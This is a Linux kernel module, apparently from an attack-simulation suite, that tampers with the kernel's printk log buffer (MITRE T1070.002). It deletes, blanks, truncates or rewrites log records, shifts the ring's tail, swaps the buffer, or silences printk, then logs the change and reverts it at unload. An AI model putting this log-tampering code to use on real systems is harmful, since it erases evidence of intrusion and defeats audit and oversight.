// SPDX-License-Identifier: GPL-2.0-only
/* Takes one record out of the kernel's log, or what is told by it (T1070.002); undone at unload.
 *
 * The structures are those of kernel/printk/printk_ringbuffer.h, which modules are not given. */
#include "attack.h"

#include <linux/printk.h>
#include <linux/string.h>

static char *what = "gone";
module_param(what, charp, 0444);
MODULE_PARM_DESC(
	what,
	"gone, open, empty, number, cut, blank, word, tail, line, ring, silence: what is changed");

struct block_place {
	unsigned long begin, next;
};

struct descriptor {
	unsigned long state;
	struct block_place text;
};

struct record_info {
	u64 seq, ts_nsec;
	u16 text_len;
	u8 facility, flags_level;
	u32 caller_id;
#if LINUX_VERSION_CODE >= KERNEL_VERSION(7, 0, 0)
	u32 caller_id2;
	char comm[16];
#endif
	char device[16 + 48];
};

struct ring {
	unsigned int count_bits;
	struct descriptor *descriptors;
	struct record_info *infos;
	unsigned long head, tail;
#if LINUX_VERSION_CODE >= KERNEL_VERSION(5, 18, 0)
	unsigned long last_finalized;
#endif
	unsigned int size_bits;
	char *data;
	unsigned long data_head, data_tail, fail;
};

#define STATE(value) ((value) >> 62)
#define WITH_STATE(value, state) (((value) & (~0UL >> 2)) | (unsigned long)(state) << 62)
enum { RESERVED, COMMITTED, FINALIZED, REUSABLE };
enum { BYTES = 16, LENGTH = 256, AHEAD = 40 };

static struct ring **prb, *ring, *copy;
static struct descriptor *descriptor, saved_descriptor;
static struct record_info *info, saved_info;
static char *text, saved_text[LENGTH];
static unsigned long saved_tail;
static int *silence;

static char *text_of(const struct descriptor *of)
{
	unsigned long size = 1UL << ring->size_bits, last = of->text.next - 1;

	if ((of->text.begin & -size) != (last & -size))
		return ring->data + 8;
	return ring->data + (of->text.begin & (size - 1)) + 8;
}

/* A closed record with some text: `line` of it, or any in the midst of the log. */
static int choose(const char *line)
{
	unsigned long mask = (1UL << ring->count_bits) - 1, id;

	for (id = ring->tail + AHEAD; id != ring->head; id++) {
		descriptor = &ring->descriptors[id & mask];
		info = &ring->infos[id & mask];
		if (STATE(descriptor->state) != FINALIZED || descriptor->text.begin & 1 ||
		    info->text_len < 2 * BYTES || info->text_len > LENGTH ||
		    (!line && info->text_len < 80))
			continue;
		text = text_of(descriptor);
		if (!line || strnstr(text, line, info->text_len))
			return 0;
	}
	return -ENOENT;
}

static int change(void)
{
	if (strcmp(what, "gone") == 0) {
		descriptor->state = WITH_STATE(descriptor->state, REUSABLE);
	} else if (strcmp(what, "open") == 0) {
		descriptor->state = WITH_STATE(descriptor->state, RESERVED);
	} else if (strcmp(what, "empty") == 0) {
		descriptor->text.begin = 3;
		descriptor->text.next = 3;
		info->text_len = 0;
	} else if (strcmp(what, "number") == 0) {
		info->seq++;
	} else if (strcmp(what, "cut") == 0) {
		info->text_len = 1;
	} else if (strcmp(what, "blank") == 0) {
		memset(text, 0, info->text_len);
	} else if (strcmp(what, "line") == 0) {
		memcpy(strnstr(text, ": ", info->text_len), ": usb device", 12);
	} else if (strcmp(what, "word") == 0) {
		memset(text + 4, 'x', 4);
	} else if (strcmp(what, "tail") == 0) {
		ring->tail += 8;
		descriptor = &ring->descriptors[(saved_tail + 1) & ((1UL << ring->count_bits) - 1)];
	} else if (strcmp(what, "ring") == 0) {
		copy = kmemdup(ring, sizeof(*ring) + 8, GFP_KERNEL);
		if (!copy)
			return -ENOMEM;
		*prb = copy;
	} else if (strcmp(what, "silence") == 0) {
		silence = (int *)attack_symbol("suppress_printk");
		if (!silence)
			return -ENOENT;
	} else {
		return -EINVAL;
	}
	return 0;
}

static int __init attack_init(void)
{
	int error;

	prb = (struct ring **)attack_symbol("prb");
	if (!prb)
		return -ENOENT;
	ring = *prb;
	saved_tail = ring->tail;
	error = choose(strcmp(what, "line") == 0 ? "out-of-tree module taints kernel" : NULL);
	if (error)
		return error;
	saved_descriptor = *descriptor;
	saved_info = *info;
	memcpy(saved_text, text, info->text_len);
	error = change();
	if (error)
		return error;
	if (strcmp(what, "line") == 0)
		attack_log("what=line module=%s", KBUILD_MODNAME);
	else
		attack_log("what=%s slot=0x%lx value=0x%lx", what,
			   silence ? (unsigned long)silence : (unsigned long)descriptor,
			   copy ? (unsigned long)copy : info->text_len);
	if (silence)
		*silence = 1;
	return 0;
}

static void __exit attack_exit(void)
{
	if (silence) {
		*silence = 0;
		return;
	}
	if (copy) {
		*prb = ring;
		ring->head = copy->head;
		ring->tail = copy->tail;
		ring->data_head = copy->data_head;
		ring->data_tail = copy->data_tail;
		synchronize_rcu();
		kfree(copy);
		return;
	}
	if (strcmp(what, "tail") == 0) {
		ring->tail = saved_tail;
		return;
	}
	*info = saved_info;
	memcpy(text, saved_text, info->text_len);
	descriptor->text = saved_descriptor.text;
	descriptor->state = saved_descriptor.state;
}

module_init(attack_init);
module_exit(attack_exit);
